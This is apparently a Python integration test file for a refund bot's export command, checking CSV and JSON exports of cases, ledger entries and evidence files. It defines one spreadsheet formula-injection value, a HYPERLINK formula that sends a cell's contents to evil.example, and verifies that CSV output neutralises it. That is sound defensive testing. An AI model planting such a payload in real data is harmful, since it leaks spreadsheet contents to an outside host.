"""`refundbot export cases|ledger|files`: what a finance or trust team gets, run as the real command on both
databases."""

import csv
import io
import json
from datetime import timedelta

from sqlalchemy import select

from bot.domain.contract import ContractKind
from bot.domain.files import EvidenceFile
from bot.domain.money import Money
from bot.domain.policy import Policy
from bot.domain.vocabulary import Visibility
from bot.services.core import store
from bot.services.payments import LedgerOnly
from storage.tables import LedgerRow, PayoutAnswerRow
from tests.conftest import REFUNDBOT
from tests.integration.conftest import NOW
from tests.integration.test_cli import run
from tests.integration.test_ports import request_on
from tests.unit.factories import CLIENT, FREELANCER, contract, milestone

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"оплата")'  # a milestone id the marketplace sent
CYRILLIC = "Этапы оплаты " * 15  # 195 characters: a title is at most 200


def usd(text: str) -> Money:
    return Money.parse(text, "USD")


def open_request(work, case_id: str, item_id: str, amount: str, team: str = "T0001") -> None:
    work.cases.add(request_on(work, case_id, item_id, NOW, amount, team))


def seeded(uow, sessions) -> int:
    """R-1 approved (a $100.00 refund, which the marketplace accepted); R-2 still waiting; R-9 in another
    workspace. Returns the refund's ledger entry id."""
    with uow() as work:
        for team in ("T0001", "T0OTHER"):
            deal = contract(ContractKind.FIXED_PRICE, team_id=team)
            work.contracts.save(deal, NOW)
            work.contracts.save_item(team, milestone())
            work.contracts.save_item(team, milestone("80.00", id=HOSTILE, title=CYRILLIC.strip()))
        open_request(work, "R-1", "M-1", "100.00")
        open_request(work, "R-2", HOSTILE, "80.00")
        open_request(work, "R-9", "M-1", "5.00", team="T0OTHER")
        work.commit()
    with uow() as work:
        case = work.cases.get("T0001", "R-1")
        case.approve(by=FREELANCER, now=NOW + timedelta(hours=1))
        store(work, case, LedgerOnly())
        work.commit()
    with sessions.begin() as session:
        entry_id = session.scalars(select(LedgerRow.id).where(LedgerRow.case_id == "R-1")).one()
        session.add(PayoutAnswerRow(entry_id=entry_id, outcome="accepted", reference="po_81", answered_at=NOW))
    return entry_id


def export(database_url, tmp_path, *args: str):
    return run([str(REFUNDBOT), "export", *args], tmp_path, DATABASE_URL=database_url)


def test_cases_export_one_line_each_with_policy_outcome_and_amounts(database_url, tmp_path, uow, sessions):
    seeded(uow, sessions)
    result = export(database_url, tmp_path, "cases", "--since", "2026-11-01", "--team", "T0001")
    assert result.returncode == 0, result.stderr
    rows = {row["case_id"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert set(rows) == {"R-1", "R-2"}  # R-9 is another workspace's
    approved, waiting = rows["R-1"], rows["R-2"]
    assert (approved["state"], approved["outcome"], approved["policy_version"]) == ("approved", "approved", "v1")
    assert (approved["paid"], approved["requested"], approved["refunded"]) == ("250.00", "100.00", "100.00")
    assert approved["contract_kind"] == "fixed_price"
    assert approved["closed_at"] == (NOW + timedelta(hours=1)).isoformat()
    assert (waiting["state"], waiting["outcome"], waiting["closed_at"], waiting["refunded"]) == (
        "awaiting_freelancer",
        "",
        "",
        "0.00",
    )
    # What the marketplace sent stays text in a spreadsheet (no formula runs), and Cyrillic survives.
    assert waiting["item_id"] == f"'{HOSTILE}"
    assert CYRILLIC.strip()[:200] in waiting["item_label"]
    assert "exported 2 case(s) changed from 2026-11-01 00:00" in result.stderr


def test_json_carries_the_same_rows_with_typed_values(database_url, tmp_path, uow, sessions):
    seeded(uow, sessions)
    result = export(database_url, tmp_path, "cases", "--since", "2026-11-25T00:00:00+01:00", "--format", "json")
    assert result.returncode == 0, result.stderr
    rows = {row["case_id"]: row for row in json.loads(result.stdout)}
    assert set(rows) == {"R-1", "R-2", "R-9"}
    assert rows["R-2"]["outcome"] is None
    assert rows["R-1"]["decided_by_deadline"] is False
    assert rows["R-2"]["item_id"] == HOSTILE  # JSON is not a spreadsheet: kept exactly


def test_ledger_export_says_what_the_marketplace_answered(database_url, tmp_path, uow, sessions):
    entry_id = seeded(uow, sessions)
    out = tmp_path / "ledger.csv"
    result = export(database_url, tmp_path, "ledger", "--since", "2026-11-25", "-o", str(out))
    assert result.returncode == 0, result.stderr
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["entry_id"] == str(entry_id)
    assert (row["case_id"], row["kind"], row["amount"], row["currency"]) == ("R-1", "refund", "100.00", "USD")
    assert (row["actor"], row["policy_version"], row["payout"], row["payout_reference"]) == (
        FREELANCER,
        "v1",
        "accepted",
        "po_81",
    )
    later = export(database_url, tmp_path, "ledger", "--since", "2026-11-26", "--format", "json")
    assert json.loads(later.stdout) == []
    assert "exported 0 ledger entries made from 2026-11-26 00:00" in later.stderr
    window = export(database_url, tmp_path, "ledger", "--since", "2026-11-25", "--until", "2026-11-25T10:30:00Z")
    assert window.stdout.splitlines()[1:] == []  # the refund was at 11:00: outside [since, until)


def test_bad_dates_and_workspaces_are_named_and_nothing_is_written(tmp_path):
    bad = run([str(REFUNDBOT), "export", "cases", "--since", "last week"], tmp_path)
    assert bad.returncode == 2
    assert "'last week' is not a date (2026-11-01) or an ISO 8601 instant" in bad.stderr
    team = run([str(REFUNDBOT), "export", "ledger", "--since", "2026-11-01", "--team", "acme"], tmp_path)
    assert team.returncode == 2
    assert "'acme' is not a Slack workspace id" in team.stderr
    missing = run([str(REFUNDBOT), "export", "ledger", "--since", "2026-11-01"], tmp_path)
    assert missing.returncode == 2
    assert "Traceback" not in missing.stderr
    assert not (tmp_path / "refundbot.db").exists()  # an export never creates a database


def test_files_export_lists_each_file_added_as_evidence_with_its_sha256(database_url, tmp_path, uow, sessions):
    seeded(uow, sessions)
    brief = EvidenceFile("F0BRIEF", HOSTILE + ".pdf", "application/pdf", 18, "a" * 64, CLIENT)
    shot = EvidenceFile("F0SHOT", CYRILLIC.strip() + ".png", "image/png", 2048, "b" * 64, CLIENT)
    with uow() as work:
        case = work.cases.get("T0001", "R-2")
        for visibility, files in ((Visibility.BOTH_SIDES, (brief, shot)), (Visibility.MEDIATOR_ONLY, ())):
            case.add_evidence(
                text="words", links=(), visibility=visibility, by=CLIENT, now=NOW, policy=Policy(), files=files
            )
        store(work, case, LedgerOnly())
        work.commit()
    result = export(database_url, tmp_path, "files", "--since", "2026-11-01")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["case_id"], r["evidence_seq"], r["file_id"], r["sha256"], r["visibility"]) for r in rows] == [
        ("R-2", "1", "F0BRIEF", "a" * 64, "both_sides"),
        ("R-2", "1", "F0SHOT", "b" * 64, "both_sides"),
    ]
    assert rows[0]["name"] == "'" + HOSTILE + ".pdf"  # a spreadsheet keeps it text
    assert rows[1]["name"] == CYRILLIC.strip() + ".png"
    assert "exported 2 file(s) added as evidence" in result.stderr
